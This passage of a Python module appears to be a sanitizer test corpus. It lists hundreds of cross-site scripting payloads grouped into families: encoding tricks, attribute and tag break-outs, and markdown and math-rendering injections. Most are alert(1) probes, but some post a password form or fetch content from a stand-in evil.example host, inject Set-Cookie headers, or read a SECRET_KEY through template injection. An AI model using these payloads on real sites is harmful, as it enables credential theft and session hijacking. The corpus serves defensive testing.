        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "＜script＞alert(1)＜/script＞",
        "﹤img src=x onerror=alert(1)﹥",
        "‹script›alert(1)‹/script›",
        "¼script¾alert(1)¼/script¾",
        "\ud83d\udc4d<img src=x onerror=alert(1)>".encode("utf-16", "surrogatepass").decode("utf-16"),
        "\ud800<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>\udfff",
        "<img src=\ud800 onerror=alert(1)>",
        "\ufeff<img src=x onerror=alert(1)>",
        "\u202e<img src=x onerror=alert(1)>",
        "<img src=x\u2028onerror=alert(1)>",
        "<img src=x\u00a0onerror=alert(1)>",
        "<img\u00a0src=x onerror=alert(1)>",
        "<\u200bimg src=x onerror=alert(1)>",
        "<im\u00adg src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)\x00>",
        "<img src=x onerror=alert(1)>\x1a",
        "\x1b$B<img src=x onerror=alert(1)>",
        "\x85<img src=x onerror=alert(1)>",
        "\ufffe<img src=x onerror=alert(1)>",
        "<svg\u3000onload=alert(1)>",
        "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
        "<a href='&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a&#x61&#x6c&#x65&#x72&#x74(1)'>x</a>",
        "<a href='javascript&#x3A;alert&#x28;1&#x29;'>x</a>",
        "<a href='&bsol;&bsol;evil.example'>x</a>",
        "<a href='&NonExistent;javascript:alert(1)'>x</a>",
        "<a href='java&#x00000000000000009;script:alert(1)'>x</a>",
        "<a href='&#1114112;javascript:alert(1)'>x</a>",
        "<a href='&#xD800;javascript:alert(1)'>x</a>",
        "<a href='&#128;javascript:alert(1)'>x</a>",
    ]


def _breakouts() -> list[str]:
    return [
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)" x="',
        "' autofocus onfocus='alert(1)' x='",
        "x onmouseover=alert(1)",
        '"><script>alert(1)</script>',
        "'><script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "'><svg onload=alert(1)>",
        "><img src=x onerror=alert(1)>",
        '"/><img src=x onerror=alert(1)>',
        "`><img src=x onerror=alert(1)>",
        "</title><script>alert(1)</script>",
        "</textarea><img src=x onerror=alert(1)>",
        "</select><img src=x onerror=alert(1)>",
        "</option></select><img src=x onerror=alert(1)>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</script><img src=x onerror=alert(1)>",
        "</noscript><img src=x onerror=alert(1)>",
        "</template><img src=x onerror=alert(1)>",
        "</iframe><img src=x onerror=alert(1)>",
        "</svg><img src=x onerror=alert(1)>",
        "</math><img src=x onerror=alert(1)>",
        "--><img src=x onerror=alert(1)>",
        "--!><img src=x onerror=alert(1)>",
        "]]><img src=x onerror=alert(1)>",
        "*/alert(1)/*",
        "';alert(1)//",
        '";alert(1)//',
        "\\';alert(1)//",
        '\\";alert(1)//',
        "`;alert(1)//",
        "${alert(1)}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{% include 'x' %}",
        "<%= 7*7 %>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example/%0d%0aSet-Cookie:x=y",
        "x\r\nSet-Cookie: y=z\r\n\r\n<script>alert(1)</script>",
        "x\u2028alert(1)\u2029",
        "</td></tr></table><img src=x onerror=alert(1)>",
        "</a><a href=javascript:alert(1)>x</a>",
        "</p></div></main><form action=//evil.example><input name=password></form>",
        "\"'><svg/onload=alert(1)>{{7*7}}${7*7}</script --><img src=x onerror=alert(1)>",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
        "\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
        "<img src=x onerror=alert(1) title=\"' onerror='alert(1)\">",
        "<b hx-on:click=alert(1)>x</b>",
        "<b hx-get=//evil.example hx-trigger=load>x</b>",
        "<b data-hx-get=/logout data-hx-trigger=load>x</b>",
        "<b x-on:click=alert(1) @click=alert(1)>x</b>",
        "<b ng-click=alert(1) v-on:click=alert(1)>x</b>",
        "<b is=x-y>x</b>",
    ]


def _markdown() -> list[str]:
    image = "<img src=x onerror=alert(1)>"
    schemes = _SCHEMES[:3] + _SCHEMES[9:11] + _SCHEMES[15:22] + _SCHEMES[31:33] + _SCHEMES[38:48]
    out = [f"[x]({scheme})" for scheme in schemes]
    out += [f"![x]({scheme})" for scheme in schemes[:8]]
    out += [f"<{scheme}>" for scheme in schemes[:8]]
    out += [f"[x][y]\n\n[y]: {scheme}" for scheme in schemes[:8]]
    out += [
        "[x](<javascript:alert(1)>)",
        "[x]( javascript:alert(1) )",
        "[x](javascript:alert(1) 'title')",
        "[x](javascript:alert\\(1\\))",
        "[x](java\\script:alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](javascript\\:alert(1))",
        '[x](https://example.org" onmouseover="alert(1))',
        "[x](https://example.org' onmouseover='alert(1))",
        '[x](https://example.org "y" onmouseover="alert(1)")',
        '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
        f'[x](https://example.org "{image}")',
        f"[x](https://example.org '\">{image}')",
        f"[x](https://example.org/{image})",
        f"[{image}](https://example.org)",
        "[x<script>alert(1)</script>](https://example.org)",
        "[<b onclick=alert(1)>x</b>](https://example.org)",
        "[[x](javascript:alert(1))](https://example.org)",
        "[![x](javascript:alert(1))](javascript:alert(1))",
        '![x" onerror="alert(1)](x)',
        '![x](x" onerror="alert(1))',
        f"![{image}](x)",
        "![`<script>`alert(1)](x)",
        "<javascript:alert(1)>",
        "<JAVASCRIPT://example.org/%0aalert(1)>",
        "<data://text/html,<script>alert(1)</script>>",
        '<https://example.org/"onmouseover="alert(1)>',
        "<https://example.org/'onclick='alert(1)>",
        '<x"onclick="alert(1)@example.org>',
        "<mailto:x@example.org?body=<script>alert(1)</script>>",
        "https://example.org/<script>alert(1)</script>",
        f'[x]: https://example.org "{image}"\n\n[x]',
        "[x]: javascript:alert(1) (y)\n\n[x] and [y][x] and ![x]",
        f"[{image}]: https://example.org\n\n[{image}]",
        "[x]:javascript:alert(1)\n\n[x]",
        "[x]:\n  javascript:alert(1)\n\n[x]",
        f"x[^{image}]\n\n[^{image}]: y",
        f"x[^1]\n\n[^1]: {image}",
        'x[^" onclick="alert(1)]\n\n[^" onclick="alert(1)]: y',
        "x[^1]\n\n[^1]: [y](javascript:alert(1))",
        "x[^location]\n\n[^location]: y",
        f'```"><script>alert(1)</script>\n{image}\n```',
        f'```" onclick="alert(1)\n{image}\n```',
        f"```html\n{image}\n<script>alert(1)</script>\n```",
        f"```{{.x onclick=alert(1)}}\n{image}\n```",
        f'``` {{#location .x style="x" onclick="alert(1)"}}\n{image}\n```',
        f'```python title="{image}" linenums="1" hl_lines="1"\n{image}\n```',
        f"~~~ <img\n{image}\n~~~",
        f"```x\n{image}",
        f"    {image}\n",
        f"`{image}`",
        f"``{image}`` ` {image}",
        f"`x{image}",
        f"\\`{image}\\`",
        f"# {image}",
        "# x {#location}",
        "# x {: onclick=alert(1) }",
        "## <script>alert(1)</script>\n\n[x](#<script>)",
        '# " onclick="alert(1)',
        "# [x](javascript:alert(1))",
        f"{image}\n===",
        "location\n========",
        "# forms\n\n# __proto__",
        f"| {image} | b |\n|---|---|\n| {image} | [x](javascript:alert(1)) |",
        '| a |\n|:" onclick="alert(1):|\n| b |',
        "| a | b |\n|---|--:|\n| `|<img src=x onerror=alert(1)>|` | c |",
        f"$\\text{{{image}}}$",
        "$\\text{</math><script>alert(1)</script>}$",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\url{javascript:alert(1)}$",
        "$\\unicode{x3c}\\text{img src=x onerror=alert(1)>}$",
        "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
        "$\\text{&amp;lt;img src=x onerror=alert(1)&amp;gt;}$",
        "$\\style{background:url(javascript:alert(1))}{x}$",
        '$\\class{x" onclick="alert(1)}{y}$',
        '$\\color{red" onclick="alert(1)}{x}$',
        "$\\id{location}{x}$",
        "$\\mathrm{<script>alert(1)</script>}$",
        f"$\\frac{{{image}$",
        f"$${image}$$",
        "$$\n\\begin{matrix}<script>alert(1)</script>\\end{matrix}\n$$",
        "$\\newcommand{\\x}{<script>alert(1)</script>}\\x$",
        '$\\rule[" onclick="alert(1)]{1em}{1em}$',
        '$\\hspace{1em" onclick="alert(1)}$',
        '$\\begin{array}{c" onclick="alert(1)}x\\end{array}$',
        "$x$<script>alert(1)</script>$y$",
        f"term\n: {image}",
        f"{image}\n: y",
        f"> {image}\n> <script>\n> alert(1)</script>",
        f"- {image}\n- <script>alert(1)</script>\n  - <svg onload=alert(1)>",
        f"1. {image}",
        f"*{image}* **<script>alert(1)</script>** _<svg onload=alert(1)>_",
        '*<a href="*javascript:alert(1)">x</a>',
        "<div markdown=1>\n[x](javascript:alert(1))\n</div>",
        '<div markdown="1" onclick="alert(1)">\n*x*\n</div>',
        f"<!-- -->{image}",
        f"<!--\n{image}",
        "*[x]: <script>alert(1)</script>\n\nx",
        '*[HTML]: " onclick="alert(1)\n\nHTML',
        "[TOC]\n\n# <script>alert(1)</script>",
        "[[x]](javascript:alert(1))",
        f"[[{image}]]",
        '[[x#y" onclick="alert(1)|z]]',
        "[[x|<script>alert(1)</script>]]",
        "![[x.svg]]",
        "{: onclick=alert(1) }",
        "x{: onclick=alert(1) #location }",
        "\x02wzxhzdk:0\x03<script>alert(1)</script>",
        "\x02klzzwxh:0000\x03<script>alert(1)</script>",
        "\x0260\x03script\x0262\x03alert(1)\x0260\x03/script\x0262\x03",
        "\x02amp\x03lt;script\x02amp\x03gt;",
        "<scr\nipt>alert(1)</scr\nipt>",
        f"<\n{image[1:]}",
        "&#60;script>alert(1)&#60;/script>",
        "\\<script>alert(1)\\</script>",
        '<https://example.org/x>"onclick=alert(1)',
        "://<script>alert(1)</script>",
        f"::: hook\n{image}\n:::",
        "<img src=x  \nonerror=alert(1)>",
        '<a href="[x](y)" onclick="alert(1)">z</a>',
        '[x](y "`<b onclick=alert(1)>`")',
        '``<b onclick="alert(1)">``[x](`<img src=x onerror=alert(1)>`)',
    ]
    return out


FAMILIES: Final[dict[str, list[str]]] = {
    "script elements": _script_elements(),
    "handlers": _handlers(),
    "separators and quotes": _separators(),
    "schemes": _schemes(),
    "svg": _svg(),
    "mathml": _mathml(),
    "mutation": _mutations(),
    "clobbering": _clobbering(),
    "documents and controls": _documents(),
    "styles": _styles(),
    "encodings": _encodings(),
    "break-outs": _breakouts(),
    "markdown": _markdown(),
}
"""The strings by family."""

CORPUS: Final[list[str]] = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))
"""All strings, each once."""
